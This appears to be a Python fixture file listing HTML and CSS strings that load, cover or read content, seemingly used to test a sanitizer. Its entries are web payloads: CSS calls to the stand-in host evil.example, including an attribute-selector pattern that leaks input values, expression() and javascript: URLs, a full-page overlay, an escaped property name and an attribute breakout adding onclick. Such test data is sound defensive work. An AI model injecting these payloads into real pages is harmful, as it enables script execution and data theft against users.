"""Looks that load, cover or read something."""

STRINGS = [
    "<style>body{background:url(https://evil.example/)}</style>x",
    "<style>@import '//evil.example/x.css';</style>x",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>x",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>x",
    "<style>*{x:expression(ran())}</style>x",
    "<style>x{-moz-binding:url(//evil.example/x.xml#y)}</style>x",
    "<p style='background-image:url(javascript:ran())'>x</p>",
    "<p style='width:expression(ran())'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='@import \"//evil.example\"'>x</p>",
    "<p style='ba\\63kground:url(//evil.example)'>x</p>",
    "<p class='masthead picture embed' id=main>x</p>",
    "<font color=red face='x\" onclick=\"ran()' size=7>x</font>",
    "<body background='javascript:ran()' bgcolor=red text=red>x</body>",
]
